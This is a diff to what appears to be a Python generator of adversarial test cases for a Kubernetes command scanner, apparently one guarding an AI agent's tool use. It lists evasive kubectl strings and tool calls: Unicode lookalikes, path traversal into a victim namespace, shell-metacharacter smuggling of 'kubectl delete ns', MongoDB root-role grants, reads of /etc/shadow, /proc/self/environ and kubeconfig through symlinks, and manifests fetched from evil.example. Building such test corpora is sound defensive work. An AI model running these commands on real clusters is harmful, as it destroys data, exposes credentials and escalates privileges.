+    "kubectl delete cm conf \uff0dn {victim}",  # fullwidth hyphen-minus: not a flag to a shell or to pflag
+    "kubectl delete cm conf \u2013n {victim}",  # en dash
+    "kubectl delete cm conf -n {ns}\u00a0",
+    "kubectl\u00a0delete ns {victim}",
+    "kubectl delete cm conf -n {victim}\u200b",
+    "kubectl delete cm co\u200dnf -n {ns}",
+    "kubectl delete \u202ens {victim}",
+    "kubectl delete cm %63onf -n {ns}",
+    "kubectl delete cm conf -n %7Bvictim%7D",
+    "kubectl delete cm conf -n {ns}%2F..%2F{victim}",
+    "kubectl get --raw /api/v1/namespaces/{ns}/configmaps/../../{victim}/secrets/creds",
+    "kubectl delete cm/conf/../../{victim} -n {ns}",
+    "kubectl delete cm .%2E -n {ns}",
+    "kubectl delete 'cm/conf?dryRun=' -n {ns}",
+    "kubectl delete cm conf@{victim} -n {ns}",
+    "kubectl delete cm -- -n -n {ns}",
+]:
+    family = "unicode_lookalikes" if any(ord(c) > 127 for c in text) else "path_tricks"
+    line(family, text)
+for call in [
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}", "name": "conf\r\n"},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}\n", "name": "conf"},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}", "name": "CONF"},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}", "name": "conf."},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}", "name": ".conf"},
+    {"verb": "delete", "kind": "Service", "namespace": "{ns}", "name": "1web"},
+    {"verb": "delete", "kind": "ConfigMap\u200b", "namespace": "{ns}", "name": "conf"},
+    {"verb": "delete", "kind": "configmaps.", "namespace": "{ns}", "name": "conf"},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "\uff53cope", "name": "conf"},
+    {
+        "verb": "patch",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "name": "conf",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/metadata/name/../namespace", "value": "{victim}"}],
+    },
+    {
+        "verb": "set_image",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "images": {"app/../x": "nginx:1.25"},
+    },
+    {
+        "verb": "set_env",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "container": "../app",
+        "env": {"A": "2"},
+    },
+    {"verb": "logs", "kind": "Pod", "namespace": "{ns}", "name": "{pod}", "container": "app?follow=true"},
+    {"verb": "events", "namespace": "{ns}", "for_kind": "Pod", "for_name": "x,involvedObject.namespace={victim}"},
+    {
+        "verb": "list",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "label_selector": "a=b&labelSelector=",
+        "field_selector": "metadata.namespace={victim}",
+    },
+]:
+    tool("path_tricks", call)
+
+# --- interactive and streaming forms not above -----------------------------------------------------------------
+for text in [
+    "kubectl exec {pod} -n {ns} --stdin=TRUE -- sh",
+    "kubectl exec {pod} -n {ns} --tty=1 -- sh",
+    "kubectl exec {pod} -n {ns} -c app -i -- sh",
+    "kubectl exec -n {ns} {pod} -- -it",
+    "kubectl get pods -n {ns} -w=true",
+    "kubectl get events -n {ns} --watch-only=true",
+    "kubectl events -n {ns} --watch",
+    "kubectl logs {pod} -n {ns} --follow=true",
+    "kubectl logs -f=true {pod} -n {ns}",
+    "kubectl wait --for=condition=Ready pod/{pod} -n {ns} --timeout=-1s",
+    "kubectl top pods -n {ns}",
+    "kubectl auth whoami",
+    "kubectl auth reconcile -f {tmp}/victim-cm.yaml",
+    "kubectl run x --image=busybox --restart=Never --attach -n {ns}",
+    "kubectl debug -n {ns} {pod} --profile=sysadmin --image=busybox",
+    "kubectl debug node/{node} --profile=sysadmin --image=busybox -- chroot /host",
+    "kubectl rollout status deploy/web -n {ns} --watch=true --timeout=0",
+    "kubectl port-forward -n {ns} pod/{pod} :80 --address 0.0.0.0",
+    "kubectl proxy --address=0.0.0.0 --accept-hosts=.* --port=0",
+    "kubectl cp {victim}/{pod}:/etc/hostname {tmp}/x",
+]:
+    line("interactive_flags", text)
+
+# --- exec: catalogue operations that are themselves an escalation or aim elsewhere --------------------------------
+for op, args, target in [
+    (
+        "mongodb.grant_roles",
+        {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}], "eval": "x"},
+        "{ns}",
+    ),
+    ("mongodb.grant_roles", {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}] * 17}, "{ns}"),
+    ("mongodb.revoke_roles", {"db": "admin", "user": "u\n", "roles": [{"role": "root", "db": "admin"}]}, "{ns}"),
+    ("mongodb.create_declared_user", {"db": "admin", "user": "u", "roles": []}, "{ns}"),
+    ("mongodb.drop_user", {"db": "admin", "user": "u"}, "{victim}"),
+    ("mongodb.grant_roles", {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}]}, "{victim}"),
+]:
+    tool("exec", {"verb": "exec", "namespace": target, "name": "{pod}", "operation": op, "args": args})
+tool(
+    "exec",
+    {
+        "verb": "exec",
+        "namespace": "{ns}",
+        "name": "{pod}",
+        "container": "../app",
+        "operation": "mongodb.revoke_roles",
+        "args": {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}]},
+    },
+)
+tool(
+    "exec",
+    {
+        "verb": "exec",
+        "namespace": "{ns}",
+        "name": "{pod}",
+        "command": ["sh"],
+        "operation": "mongodb.revoke_roles",
+        "args": {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}]},
+    },
+)
+tool(
+    "exec",
+    {
+        "verb": "exec",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "operation": "mongodb.revoke_roles",
+        "args": {"db": "admin", "user": "u", "roles": [{"role": "root", "db": "admin"}]},
+    },
+)
+line("exec", "kubectl exec deploy/web -n {ns} -- sh -c id")
+line("exec", "kubectl exec {pod} -n {ns} -c ../app -- id")
+
+# --- shell: syntax a POSIX shell honours that the scanner might read as data -----------------------------------------
+for text in [
+    "kubectl get pods -n {ns} $'\\x3b' kubectl delete ns {victim}",
+    "kubectl get pods -n {ns} ${IFS}delete",
+    'kubectl get pods -n "{ns}"\'"\';kubectl delete ns {victim}',
+    "kubectl get pods -n {ns} #; kubectl delete ns {victim}",
+    "kubectl get pods -n {ns} \\;kubectl delete ns {victim}",
+    "kubectl get pods -n {ns}\rkubectl delete ns {victim}",
+    "kubectl get pods -n {ns}\x00kubectl delete ns {victim}",
+    "kubectl get pods -n {ns}\u2028kubectl delete ns {victim}",
+    "kubectl get pods -n {ns} !!",
+    "kubectl get pods -n {ns} ~root",
+    "kubectl get pods -n {ns} *",
+    "(kubectl delete ns {victim})",
+    "! kubectl delete ns {victim}",
+    "time kubectl delete ns {victim}",
+    "exec kubectl delete ns {victim}",
+    "coproc kubectl delete ns {victim}",
+    "kubectl get pods -n {ns} >| /tmp/x",
+]:
+    line("shell_metacharacters", text)
+
+# --- file tricks not above: relative escapes, hidden files, files that change between checks --------------------------
+for text in [
+    "kubectl apply -f ../../../../etc/passwd -n {ns}",
+    "kubectl apply -f {tmp}/../../../../proc/self/environ -n {ns}",
+    "kubectl apply -f ~/.kube/config -n {ns}",
+    "kubectl apply -f $HOME/.kube/config -n {ns}",
+    "kubectl apply -f {tmp}/*.yaml -n {ns}",
+    "kubectl apply -f {tmp}/victim-cm.yaml -f {tmp}/victim-cm.yaml -n {ns}",
+    "kubectl apply -R -f {tmp} -n {ns}",
+    "kubectl apply -f=/dev/zero -n {ns}",
+    "kubectl apply --filename /dev/./zero -n {ns}",
+    "kubectl apply -f /DEV/zero -n {ns}",
+    "kubectl apply -f HTTP://evil.example/x.yaml -n {ns}",
+    "kubectl apply -f //evil.example/share/x.yaml -n {ns}",
+    "kubectl apply -f \\\\\\\\evil.example\\\\x.yaml -n {ns}",
+    "kubectl patch deploy web -n {ns} --patch-file=/proc/self/cmdline",
+    "kubectl patch deploy web -n {ns} --patch-file {tmp}/link.yaml",
+]:
+    line("file_tricks", text, files={"link.yaml": "@symlink:/etc/shadow"} if "link.yaml" in text else None)
+line("file_tricks", "kubectl apply -f {tmp}/dirlink -n {ns}", files={"dirlink": "@symlink:/proc/self"})
+line("file_tricks", "kubectl apply -f {tmp}/dirlink/environ -n {ns}", files={"dirlink": "@symlink:/proc/self"})
+line(
+    "file_tricks",
+    "kubectl apply -f {tmp}/hardlink.yaml -n {ns}",
+    files={"hardlink.yaml": "@symlink:../../../../../../etc/passwd"},
+)
+
 
 def main() -> None:
     OUT.parent.mkdir(parents=True, exist_ok=True)
